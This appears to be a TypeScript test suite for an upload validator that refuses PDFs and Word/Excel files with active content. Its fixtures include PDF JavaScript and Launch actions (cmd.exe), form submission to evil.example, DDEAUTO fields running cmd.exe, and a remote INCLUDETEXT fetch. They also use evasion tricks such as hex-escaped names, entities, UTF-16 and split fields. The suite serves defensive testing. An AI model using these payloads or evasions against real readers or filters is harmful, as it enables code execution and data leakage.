import { deflateSync } from 'node:zlib';
import { portalOf } from '../../testing/portal-of';
import { docx, xlsx, zip } from '../../testing/archive';
import { upload } from '../../testing/uploading';

const here = portalOf('client');
const send = (bytes: Buffer) => upload(here.portal, here.client, [{ name: 'surat', bytes }]);
const codeOf = async (bytes: Buffer): Promise<string | undefined> => {
  const { status, body } = await send(bytes);
  return status === 200 ? undefined : body.errors[0].code;
};
const ACTIVE = 'validation.fileActive';

/** A PDF of these objects; its readers would find them without a table of offsets, too. */
const pdfOf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.flatMap((one, at) => [Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(one), Buffer.from('\nendobj\n')]),
    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
  ]);
const stream = (head: string, data: Buffer | string) =>
  Buffer.concat([
    Buffer.from(`<< ${head} /Length ${data.length} >>\nstream\n`),
    Buffer.from(data),
    Buffer.from('\nendstream'),
  ]);
const packed = (objects: string, head = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
  stream(head, deflateSync(`7 0 ${objects}`));
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const CATALOG = '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>';

describe('a PDF', () => {
  it.each<[string, Buffer]>([
    ['runs a script when it is opened', pdfOf(`<< /Type /Catalog /OpenAction ${SCRIPT} >>`)],
    ['runs a script by a name with numbers', pdfOf('<< /OpenAction << /S /J#61vaScrip#74 /JS (x) >> >>')],
    ['runs a script by a name with large digits', pdfOf('<< /S/Java#53cript/J#53 4 0 R >>')],
    ['names a script by another object', pdfOf('<< /S 2 0 R /JS (x) >>', '/JavaScript')],
    ['has a table of scripts', pdfOf('<< /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>')],
    ['has a comment before its script', pdfOf('<< /S %x\n/JavaScript /JS (x) >>')],
    ['runs a script of a film', pdfOf('<< /S /Rendition /JS (x) >>')],
    ['starts a program', pdfOf('<< /OpenAction << /S /Launch /F (cmd.exe) >> >>')],
    ['opens another file', pdfOf('<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>')],
    ['sends its form', pdfOf('<< /S /SubmitForm /F (https://evil.example) >>')],
    ['has a file within it', pdfOf('<< /Names << /EmbeddedFiles 4 0 R >> >>', stream('/Type/EmbeddedFile', 'MZ'))],
    ['has an attached file', pdfOf('<< /Subtype/FileAttachment /FS 4 0 R >>')],
    ['has a film', pdfOf('<< /Subtype /RichMedia >>')],
    ['is a form that is a program', pdfOf('<< /AcroForm << /Fields [] /XFA 4 0 R >> >>')],
    ['has a script in a stream of objects', pdfOf(CATALOG, packed(SCRIPT))],
    ['has a file in a stream of objects', pdfOf(CATALOG, packed('<< /EmbeddedFiles 8 0 R >>'))],
    ['has a script in a stream that calls itself a picture', pdfOf(CATALOG, packed(SCRIPT, '/Subtype /Image'))],
    ['has a script after a comment in a stream', pdfOf(stream('', deflateSync(`%\u0080\n7 0 ${SCRIPT}`)))],
    [
      'has a script in a stream that ends too early',
      pdfOf(stream('/Type /ObjStm', deflateSync(`7 0 ${SCRIPT}${'1 0 R '.repeat(9_000)}`).subarray(0, -8))),
    ],
    ['has a script within the data of a picture', pdfOf(stream('/Subtype /Image', `\u0001\u0002${SCRIPT}`))],
    ['has objects in another compression', pdfOf(stream('/Type /ObjStm /Filter /LZWDecode', '\u0080\u000b\u0060'))],
    [
      'has objects that are encoded differently',
      pdfOf(packed(SCRIPT.replace('/Java', '/Jafa'), '/Type/ObjStm/Predictor 12')),
    ],
    ['has objects that unpack to a gigabyte', pdfOf(stream('/Type /ObjStm', deflateSync(Buffer.alloc(90e6, '1 0 '))))],
  ])('that %s is refused', async (_, bytes) => {
    expect(await codeOf(bytes)).toBe(ACTIVE);
  });

  it('that is encrypted is refused, since it cannot be checked', async () => {
    expect(await codeOf(pdfOf(CATALOG, '<< /Filter /Standard >>', '<< /Root 1 0 R /Encrypt 2 0 R >>'))).toBe(
      'validation.fileLocked',
    );
  });

  it.each<[string, Buffer]>([
    [
      'opens at a page, with links and objects in a stream',
      pdfOf(CATALOG, packed('<< /S /URI /URI (https://a.example) >>')),
    ],
    ['has a form', pdfOf('<< /AcroForm << /Fields [4 0 R] >> >>')],
    [
      'has text about scripts',
      pdfOf('<< /Title (Panduan HTML/JavaScript) >>', stream('', '(JavaScript, JS, Launch) Tj')),
    ],
    [
      'has pages and pictures that are compressed',
      pdfOf(stream('', deflateSync('0 0 m 1 1 l S')), stream('', deflateSync(Buffer.alloc(9e6, 7)))),
    ],
    ['has names that only begin so', pdfOf('<< /LaunchPad 1 /XFAR 2 /EncryptMetadata false >>')],
  ])('that %s is accepted', async (_, bytes) => {
    expect(await codeOf(bytes)).toBeUndefined();
  });
});

const relation = (type: string, more = '', tag = 'Relationship') =>
  `<Relationships xmlns="x"><${tag} Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://a.example" ${more}/></Relationships>`;
const related = (content: string, name = 'word/_rels/document.xml.rels') => docx([{ name, content }]);
const OUTSIDE = 'TargetMode="External"';
const types = (type: string) =>
  zip([
    {
      name: '[Content_Types].xml',
      content: `<Types><Override PartName="/a" ContentType="application/${type}"/></Types>`,
    },
    { name: 'word/document.xml', content: '<w:document/>' },
  ]);
const part = (content: string, name = 'word/header1.xml') => docx([{ name, content }]);
const field = (...pieces: string[]) =>
  `<w:hdr><w:fldChar w:fldCharType="begin"/>${pieces.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`).join('')}<w:fldChar w:fldCharType="end"/></w:hdr>`;
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const locked = () => {
  const bytes = docx();
  const table = bytes.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
  bytes.writeUInt16LE(1, table + 8);
  return bytes;
};
const renamed = () => {
  const bytes = related(relation('hyperlink'));
  bytes.write('x', bytes.indexOf('word/_rels'));
  return bytes;
};

describe('a Word or Excel document', () => {
  it.each<[string, Buffer]>([
    ['has macros', docx([{ name: 'word/vbaProject.bin', content: 'x' }])],
    ['is a workbook with macros', xlsx([{ name: 'xl/vbaProject.bin', content: 'x' }])],
    ['has macros of Excel 4', xlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }])],
    ['has macros under another name', related(relation('vbaProject'))],
    ['says that it has macros', types('vnd.ms-word.document.macroEnabled.main+xml')],
    ['says so in numbers', types('vnd.ms-word.document.m&#97;cro&#x45;nabled.main+xml')],
    ['has ActiveX', docx([{ name: 'word/activeX/activeX1.bin', content: 'x' }])],
    ['has a control', related(relation('control'))],
    ['has a template outside', related(relation('attachedTemplate', OUTSIDE), 'word/_rels/settings.xml.rels')],
    ['has one in quotes of the other kind', related(relation('attachedTemplate', "a='>' TargetMode='External'"))],
    ['has one with a prefix', related(relation('attachedTemplate', OUTSIDE, 'ж:Relationship'))],
    ['has one in numbers', related(relation('attachedTemplate', 'TargetMode="&#69;xternal"'))],
    ['has one in UTF-16', docx([{ name: 'word/_rels/a.xml.rels', content: utf16(relation('frame', OUTSIDE)) }])],
    ['has one that cannot be read', related('<Relationships><Relationship Id=r1 TargetMode=External/>')],
    ['defines words', related(`<!DOCTYPE a [<!ENTITY e "External">]>${relation('frame', 'TargetMode="&e;"')}`)],
    ['has a picture outside', related(relation('image', OUTSIDE))],
    ['has a frame outside', related(relation('frame', OUTSIDE))],
    ['has a linked object', related(relation('oleObject', OUTSIDE))],
    ['has an embedded object', related(relation('oleObject'))],
    ['has an embedded program', docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
    [
      'has an embedded workbook with macros',
      docx([{ name: 'word/embeddings/a.xlsx', content: xlsx([{ name: 'xl/vbaProject.bin' }]) }]),
    ],
    ['has an embedded file of another kind', docx([{ name: 'word/embeddings/a.xlsm', content: xlsx() }])],
    [
      'has documents in documents in it',
      docx([{ name: 'word/embeddings/a.docx', content: docx([{ name: 'word/embeddings/b.docx', content: docx() }]) }]),
    ],
    ['is linked to another workbook', xlsx([{ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }])],
    [
      'is linked to one by its relation',
      xlsx([{ name: 'xl/_rels/workbook.xml.rels', content: relation('externalLink') }]),
    ],
    ['merges a foreign document', related(relation('aFChunk'))],
    ['has a field that starts a program', part(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))],
    ['has one in pieces', part(field('D', 'DE', 'AUTO c:\\\\a'))],
    ['has one in a simple field', part('<w:p><w:fldSimple w:instr=" dde cmd"/></w:p>')],
    ['has one with a comment within it', part(field('DD<!-- x -->E cmd'))],
    ['has one under another name of a part', part(field('DDE cmd'), 'custom/a.dat')],
    ['has one behind a larger sign', part(field('DDE cmd').replaceAll('xml:space="preserve"', 'a=">"'))],
    ['fetches a document', part(field('INCLUDETEXT "https://evil.example/a"'))],
    ['has a comment without an end', part('<w:hdr><!-- ')],
    ['is encrypted in part', locked()],
    ['has parts of two names', renamed()],
  ])('that %s is refused', async (_, bytes) => {
    expect(await codeOf(bytes)).toBe(ACTIVE);
  });

  it.each<[string, Buffer]>([
    ['has links', related(relation('hyperlink', OUTSIDE))],
    ['has pictures, styles and a template of its own', related(relation('image') + relation('styles'))],
    ['has fields of pages and dates', part(field(' PAGE \\* MERGEFORMAT ') + field('DATE'))],
    ['has text about DDE', part('<w:t>DDE, DDEAUTO and LINK are old.</w:t>')],
    ['has a chart with its workbook', docx([{ name: 'word/embeddings/Sheet1.xlsx', content: xlsx() }])],
    [
      'is a workbook with links',
      xlsx([{ name: 'xl/worksheets/_rels/sheet1.xml.rels', content: relation('hyperlink', OUTSIDE) }]),
    ],
  ])('that %s is accepted', async (_, bytes) => {
    expect(await codeOf(bytes)).toBeUndefined();
  });

  it.each<[string, Buffer]>([
    ['an old one', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4_096)])],
    ['one with two parts of one name', docx([{ name: 'Word/Document.xml', content: '<w:document/>' }])],
    ['a text in RTF', Buffer.from('{\\rtf1 {\\object\\objupdate}}')],
  ])('is no accepted type: %s', async (_, bytes) => {
    expect(await codeOf(bytes)).toBe('validation.fileType');
  });
});
